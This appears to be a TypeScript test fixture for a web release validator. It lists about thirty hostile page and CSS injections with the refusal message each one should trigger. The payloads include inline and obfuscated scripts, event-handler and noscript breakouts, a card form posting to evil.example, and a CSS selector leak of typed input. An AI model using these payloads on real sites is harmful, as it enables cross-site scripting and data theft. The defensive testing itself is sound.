import { catalogFixture, type Fixture, pageBundle } from '@platform/release/testing/fixture-release'

/** A release of catalog that tries to get something onto a page, and how it is refused. */
type HostileRelease = { fixture: Fixture; refusal: RegExp }

/** One whose page has the markup, behind a heading; `found` is what the refusal says of the page. */
function hostilePage(markup: string, found: RegExp): HostileRelease {
  const bundle = pageBundle(`'<h1>Courses at ' + url + '</h1>' + ${JSON.stringify(markup)}`)
  return hostileFixture({ content: { 'server/courses-page.cjs': bundle } }, ofPage(found))
}

/** The refusal of a page that has this. */
function ofPage({ source }: RegExp): RegExp {
  return new RegExp(`page /courses of catalog/courses-page \\(catalog@0\\.2\\.0\\) has ${source}`)
}

function hostileFixture(fixture: Fixture, refusal: RegExp): HostileRelease {
  return { fixture: catalogFixture({ ...fixture, version: '0.2.0' }), refusal }
}

/** Every way we know. */
export const hostileReleases: Readonly<Record<string, HostileRelease>> = {
  // Inline scripts of any kind.
  'any-inline-script': hostileFixture(
    {
      pages: [
        { module: './courses-page', path: '/courses', contentSecurityPolicy: { 'script-src': ["'unsafe-inline'"] } },
      ],
    },
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ),
  // All addresses of the page lead elsewhere, those of its scripts too.
  'base-element': hostilePage('<base href="https://evil.example/">', /an element that no page may have: <base href/),
  // Structured data that ends its element. The fixture host writes it as it is; a real one escapes it.
  'data-breaks-out': hostileFixture(
    {
      pages: [
        {
          module: './courses-page',
          path: '/courses',
          structuredData: [{ '@type': 'Organization', name: '</script><script>steal()</script>' }],
        },
      ],
    },
    ofPage(/an inline script that the shell does not declare/),
  ),
  // A script in an attribute, on an element that browsers fail to load.
  'event-attribute': hostilePage(
    '<img src="/nothing" alt="" onerror="steal()">',
    /the event attribute onerror.*: <img src/,
  ),
  // Scripts from anywhere.
  'every-host': hostileFixture(
    { pages: [{ module: './courses-page', path: '/courses', contentSecurityPolicy: { 'script-src': ['*'] } }] },
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ),
  // Scripts from any host that has a certificate.
  'every-scheme': hostileFixture(
    { pages: [{ module: './courses-page', path: '/courses', contentSecurityPolicy: { 'script-src': ['https:'] } }] },
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ),
  // What visitors type goes elsewhere, without a script.
  'foreign-form': hostilePage(
    '<form action="https://evil.example/"><input name="card" aria-label="Card"></form>',
    /a form of https:\/\/evil\.example, which the site does not grant the page: <form/,
  ),
  // Fetches a module of another host ahead, and with it a place to report to.
  'foreign-preload': hostilePage(
    '<link rel="modulepreload" href="https://evil.example/x.js">',
    /a script that is no file/,
  ),
  // A script of another host.
  'foreign-script': hostilePage(
    '<script src="https://evil.example/x.js"></script>',
    /a script that is no file of the shell or of/,
  ),
  // A document in an attribute.
  'frame-of-text': hostilePage(
    '<iframe title="x" srcdoc="&lt;script>steal()&lt;/script>"></iframe>',
    /the attribute srcdoc/,
  ),
  // Markup and a script inside of a drawing, where parsers have other rules.
  'hidden-in-drawing': hostilePage(
    '<svg><foreignObject><iframe title="x" src="data:text/html,x"></iframe></foreignObject><script>steal()</script></svg>',
    /an element that no page may have: <foreignObject>/,
  ),
  // Words for visitors without scripts that end, with scripts on, in the middle of an attribute.
  'hidden-in-noscript': hostilePage(
    '<noscript><p title="</noscript><script>steal()</script>">x</p></noscript>',
    /a noscript that ends elsewhere with scripts on/,
  ),
  // An element that older parsers drop inside of a select and newer browsers keep.
  'hidden-in-select': hostilePage(
    '<select><iframe src="https://evil.example/"></iframe></select>',
    /a select with more than options/,
  ),
  // A shadow tree written in the page: its content is as alive as the rest.
  'hidden-in-template': hostilePage(
    '<div><template shadowrootmode="open"><script>steal()</script></template></div>',
    /an inline script that the shell does not declare/,
  ),
  // Has every module that is imported later come from elsewhere.
  'import-map': hostilePage(
    '<script type="importmap">{"imports":{"react":"https://evil.example/react.js"}}</script>',
    /a script of the type "importmap"/,
  ),
  // Was allowed once, because the policy named whatever stood in the page.
  'inline-script': hostilePage(
    '<script>steal()</script>',
    /an inline script that the shell does not declare: <script> at 1:/,
  ),
  // Takes the place of the data by which the shell finds the packages.
  'other-configuration': hostilePage(
    '<script type="application/json" id="site-config">{"remotes":{"checkout":{"entry":"/assets/catalog/x.js"}}}</script>',
    /the id "site-config" of the document’s own data a second time/,
  ),
  // A script of another package, which may be of an age that its team has long mended.
  'other-package': hostilePage(
    '<script src="/assets/content/blog-page.01234567.js"></script>',
    /a script that is no file of the shell or of the page's package/,
  ),
  // A document of its own beside the shell.
  'page-without-shell': hostileFixture(
    { content: { 'public/offers.html': '<script src="/assets/catalog/x.js"></script>' } },
    /\/offers\.html of catalog@0\.2\.0 \(public file\) could run beside the shell/,
  ),
  // A policy of the page's own, which could keep the scripts of the shell from running.
  'policy-in-page': hostilePage(
    '<meta http-equiv="Content-Security-Policy" content="script-src https://evil.example">',
    /the attribute http-equiv/,
  ),
  // Takes visitors to another site, without a script.
  refresh: hostilePage('<meta http-equiv="refresh" content="0;url=https://evil.example/">', /the attribute http-equiv/),
  // A link that is a script, spelt so that no search for the word finds it.
  'script-link': hostilePage('<a href="java&#9;script:steal()">Courses</a>', /a link by javascript:/),
  // A script at the root, which would answer for every page of the site from then on.
  'service-worker': hostileFixture(
    { content: { 'public/sw.js': 'onfetch=steal' } },
    /\/sw\.js of catalog@0\.2\.0 \(public file\) could run beside the shell/,
  ),
  // A style sheet that ends its element; end tags are told in any case.
  'styles-break-out': hostileFixture(
    { content: { 'client/courses.css': '.a{content:"</STYLE><script>steal()</script>"}' } },
    ofPage(/an inline style that is no style sheet of the page/),
  ),
  // A style sheet that brings another one.
  'styles-import': hostileFixture(
    { content: { 'client/courses.css': '@import "https://evil.example/x.css";.a{color:red}' } },
    ofPage(/a style sheet, \/assets\/catalog\/courses\.\w+\.css, that loads another style sheet/),
  ),
  // Tells another host what a visitor types, letter by letter, spelt by escapes.
  'styles-report': hostileFixture(
    { content: { 'client/courses.css': 'input[value^=a]{background:u\\72l(https://evil.example/a)}' } },
    ofPage(/a style sheet, .*, that loads https:\/\/evil\.example\/a, of another host/),
  ),
  // Creates the policy by which the shell makes scripts of addresses.
  'taken-types': hostileFixture(
    { trustedTypes: ['default'] },
    /catalog@0\.2\.0 declares the Trusted Types policy "default"/,
  ),
  // A host that nobody has granted the package.
  'ungranted-host': hostileFixture(
    {
      pages: [
        {
          module: './courses-page',
          path: '/courses',
          contentSecurityPolicy: { 'script-src': ['https://js.evil.example'] },
        },
      ],
    },
    /catalog@0\.2\.0 would let \/courses reach https:\/\/js\.evil\.example .*: site hosts allow catalog https:\/\/js\.evil\.example --for script-src/,
  ),
  // Promises others something in the name of the whole site.
  'well-known': hostileFixture(
    { content: { 'public/.well-known/assetlinks.json': '[]' } },
    /\/\.well-known\/assetlinks\.json of catalog@0\.2\.0 \(public file\) is an address of the origin itself/,
  ),
}
